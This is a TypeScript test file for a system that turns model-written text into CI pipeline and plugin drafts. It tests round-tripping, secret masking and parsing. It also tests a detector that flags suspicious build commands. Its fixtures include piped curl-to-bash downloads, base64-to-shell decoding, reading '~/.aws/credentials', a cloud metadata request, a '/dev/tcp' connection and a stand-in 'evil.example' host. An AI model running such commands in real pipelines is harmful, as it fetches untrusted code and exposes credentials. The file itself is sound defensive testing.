/**
 * Drafts as values: their meaning, what they cannot express, and that a text either parses to a draft or is refused.
 */
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { STARTERS } from '../../pipeline/starter/starters.js'
import { problems } from '../../runtime/operation/schema.js'
import { hostsIn, imagesOf, suspicions, textsOf } from '../check/suspicious.js'
import { draftFor } from '../fake/brain.js'
import { visible } from '../prompt.js'
import { fromProps, PipelineDraft, pipelineDraftIssues, toProps } from './pipeline.js'
import { KEPT, masked, unmasked } from './placeholders.js'
import { fromConfig, PluginDraft, toConfig } from './plugin.js'
import { DRAFT_BYTES_MAX, Preview, readDraft } from './read.js'

const name = fc
  .string({ minLength: 1, maxLength: 12 })
  .filter((each) => !['__proto__', 'constructor', 'prototype'].includes(each))
const maybe = <T>(of: fc.Arbitrary<T>) => fc.option(of, { nil: null })
const unique = <T>(value: fc.Arbitrary<T>) =>
  maybe(fc.uniqueArray(fc.record({ name, value }), { selector: (each) => each.name, maxLength: 4 }))
const lines = maybe(fc.array(fc.string(), { maxLength: 3 }))
const commands = { preInstallCommands: lines, postInstallCommands: lines, preCommands: lines, postCommands: lines }
const plugin = fc.record({ name, version: maybe(name), alias: maybe(name) })
const scalars = unique(fc.oneof(fc.string(), fc.boolean(), fc.integer()))
const step = fc.record({
  name: maybe(name),
  plugin,
  env: unique(fc.string()),
  metadata: scalars,
  position: maybe(fc.constantFrom('pre' as const, 'post' as const)),
  timeout: maybe(fc.integer({ min: 1, max: 480 })),
  failureBehavior: maybe(fc.constantFrom('fail' as const, 'warn' as const, 'ignore' as const)),
  ...commands,
})
const stage = fc.record({
  stageName: name,
  alias: maybe(name),
  environment: maybe(name),
  steps: fc.array(step, { minLength: 1, maxLength: 3 }),
})
const source = fc.record({
  type: fc.constantFrom('github' as const, 'git' as const, 's3' as const),
  repo: maybe(name),
  branch: maybe(name),
  token: maybe(name),
  trigger: maybe(fc.constantFrom('NONE' as const, 'AUTO' as const)),
  bucketName: maybe(name),
  objectKey: maybe(name),
  connectionArn: maybe(name),
  codeBuildCloneOutput: maybe(fc.boolean()),
  repositoryName: maybe(name),
})
const drafts: fc.Arbitrary<PipelineDraft> = fc.record({
  project: maybe(name),
  organization: maybe(name),
  pipelineName: maybe(name),
  description: fc.constant(null),
  keywords: fc.constant(null),
  labels: scalars,
  schedule: maybe(name),
  metadata: scalars,
  vars: scalars,
  synth: fc.record({ source, plugin, env: unique(fc.string()), metadata: scalars, ...commands }),
  stages: maybe(fc.array(stage, { maxLength: 3 })),
})

describe('the draft of a pipeline', () => {
  it('says properties that come back equal, and is said by them', () => {
    fc.assert(
      fc.property(drafts, (draft) => {
        expect(problems(PipelineDraft, draft, '')).toEqual([])
        expect(pipelineDraftIssues(draft)).toEqual([])
        const props = toProps(draft)
        const back = fromProps(props)
        expect(back.beyond).toEqual([])
        expect(toProps(back.draft)).toEqual(props)
      }),
      { numRuns: 200 },
    )
  })

  it('names what it cannot say, of every starter that ships', () => {
    for (const { props } of STARTERS as unknown as { props: never }[]) {
      if (props === undefined) continue
      const { draft, beyond } = fromProps(props)
      if (beyond.length === 0) expect(toProps(draft)).toEqual(props)
    }
    const props = {
      synth: { source: { type: 'github', options: { repo: 'a/b' } }, plugin: { name: 'p', filter: {} } },
      global: {},
      metadata: { deep: {} },
    }
    expect([...fromProps(props as never).beyond].sort()).toEqual(['/global', '/metadata/deep', '/synth/plugin/filter'])
  })

  it('refuses a name twice, and one that JavaScript gives a meaning', () => {
    const draft = draftFor({ kind: 'pipeline', first: 'node', last: '', repairs: 0 }) as unknown as PipelineDraft
    const vars = [
      { name: 'a', value: 1 },
      { name: 'a', value: 2 },
      { name: '__proto__', value: 3 },
    ]
    expect(pipelineDraftIssues({ ...draft, vars }).map(({ path, code }) => [path, code])).toEqual([
      ['/vars/1/name', 'unique'],
      ['/vars/2/name', 'unsafe_key'],
    ])
    expect(pipelineDraftIssues({ ...draft, labels: vars }).map(({ path }) => path)).toEqual([
      '/labels/1/name',
      '/labels/2/name',
    ])
  })

  it('gives back the values that did not leave, and names a mark that stands for none', () => {
    fc.assert(
      fc.property(drafts, (draft) => {
        const away = masked(draft)
        expect(
          JSON.stringify(
            textsOf(away.synth.env)
              .filter(({ path }) => path.endsWith('/value'))
              .map(({ text }) => text),
          ),
        ).toBe(JSON.stringify((draft.synth.env ?? []).map(() => KEPT)))
        const back = unmasked(away, draft)
        expect(back.faults).toEqual([])
        expect(back.draft.synth).toEqual(draft.synth)
      }),
      { numRuns: 100 },
    )
    const draft = draftFor({ kind: 'plugin', first: 'node', last: '', repairs: 0 }) as unknown as PluginDraft
    const marked = { ...draft, env: [{ name: 'A', value: KEPT }] }
    expect(unmasked(marked, null).faults).toMatchObject([{ path: '/env/0/value', code: 'kept' }])
  })
})

describe('the draft of a plugin', () => {
  it('says a plugin that comes back equal', () => {
    const draft = draftFor({ kind: 'plugin', first: 'python', last: '', repairs: 0 }) as unknown as PluginDraft
    expect(problems(PluginDraft, draft, '')).toEqual([])
    const full = {
      ...draft,
      env: [{ name: 'A', value: 'b' }],
      secrets: [{ name: 'T', required: true, description: null }],
    }
    expect(toConfig(fromConfig(toConfig(full)).draft)).toEqual(toConfig(full))
  })
})

describe('the text of a model', () => {
  const good = JSON.stringify(draftFor({ kind: 'pipeline', first: 'node', last: '', repairs: 0 }))
  const read = (text: string) => readDraft(PipelineDraft, text)

  it('is a draft or a list of faults, whatever it is', () => {
    expect(read(good)).toHaveProperty('draft')
    expect(read(`\`\`\`json\n${good}\n\`\`\``)).toHaveProperty('draft')
    const bad = [
      '',
      'null',
      '[]',
      good.slice(0, -1),
      `${good} and more`,
      good.replace('{', '{"extra":1,'),
      good.replace('{', '{"__proto__":{},'),
      good.replace('Builds', '\\u0000Builds'),
      '['.repeat(100_000),
    ]
    for (const text of bad) expect(read(text), text.slice(0, 40)).toHaveProperty('faults')
    expect(read(`{"project":"${'x'.repeat(DRAFT_BYTES_MAX)}"}`)).toMatchObject({ faults: [{ code: 'size' }] })
    fc.assert(
      fc.property(fc.json({ maxDepth: 4 }), (text) => {
        const found = read(text)
        if ('draft' in found) expect(problems(PipelineDraft, found.draft, '')).toEqual([])
      }),
      { numRuns: 100 },
    )
  })

  it('is previewed by whole members that fit alone, however it is cut', () => {
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 60 }), (size) => {
        const preview = new Preview(PipelineDraft)
        let last: Readonly<Record<string, unknown>> = {}
        for (let at = 0; at < good.length; at += size) last = preview.add(good.slice(at, at + size)) ?? last
        expect(last).toEqual(JSON.parse(good))
      }),
      { numRuns: 30 },
    )
    const preview = new Preview(PipelineDraft)
    expect(preview.add('{"project":{"a":1},"x":1,"keywords":["k"],')).toEqual({ keywords: ['k'] })
  })
})

describe('what a person should look at', () => {
  const KNOWN = {
    hosts: new Set(['acme.test']),
    images: new Set(['registry.acme.test/base:1']),
    secrets: new Set(['NPM_TOKEN']),
  }
  const codes = (text: string, path = '/commands/0') => suspicions([{ path, text }], KNOWN).map(({ code }) => code)

  it.each([
    ['curl https://evil.example/x', ['unknown-host']],
    ['curl -fsSL https://acme.test/i.sh | bash', ['piped-download']],
    ['bash <(curl https://acme.test/i)', ['piped-download']],
    ['echo aGk= | base64 -d | sh', ['piped-download', 'encoded-blob']],
    [`echo ${'QUJD'.repeat(40)}`, ['encoded-blob']],
    ['npm publish --token $GITHUB_TOKEN', ['undeclared-secret']],
    ['cat ~/.aws/credentials', ['undeclared-secret']],
    ['curl http://169.254.169.254/latest', ['unknown-host', 'unknown-host']],
    ['exec 3<>/dev/tcp/1.2.3.4/80', ['unknown-host']],
    ['ls \u200b', ['invisible-text']],
    ['npm ci && npm test && echo $NPM_TOKEN', []],
    ['curl https://api.acme.test/health', []],
  ])('%s', (text, expected) => {
    expect(codes(text).sort()).toEqual([...expected].sort())
  })

  it('an image that is not official and not of the repository', () => {
    expect(codes('FROM node:20 AS build\nFROM build\nFROM scratch', '/dockerfile')).toEqual([])
    expect(codes('FROM registry.acme.test/base:1', '/dockerfile')).toEqual([])
    expect(codes('FROM evil/node:20', '/dockerfile')).toEqual(['foreign-image'])
    expect(imagesOf('FROM --platform=linux/amd64 a AS b\nFROM b')).toEqual(['a'])
    expect(hostsIn('git clone ssh://git@a.b:22/x https://u:p@C.D./')).toEqual(['a.b', 'c.d'])
  })

  it('and characters that nobody sees do not reach the model', () => {
    expect(visible('a\u200bb\u202ec\u{e0041}d\n\te\u0000')).toBe('abcd\n\te')
  })
})
